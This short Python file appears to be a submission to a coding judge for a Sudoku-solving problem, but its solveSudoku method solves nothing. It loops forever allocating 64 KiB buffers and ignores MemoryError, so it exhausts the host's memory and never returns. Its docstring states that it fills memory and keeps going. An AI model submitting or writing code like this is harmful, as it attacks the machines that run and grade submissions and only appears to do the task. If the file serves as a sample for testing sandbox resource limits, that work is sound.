"""Fills memory, and goes on when it runs out."""

class Solution:
    def solveSudoku(self, board):
        kept = []
        while True:
            try:
                kept.append(bytearray(1 << 16))
            except MemoryError:
                pass
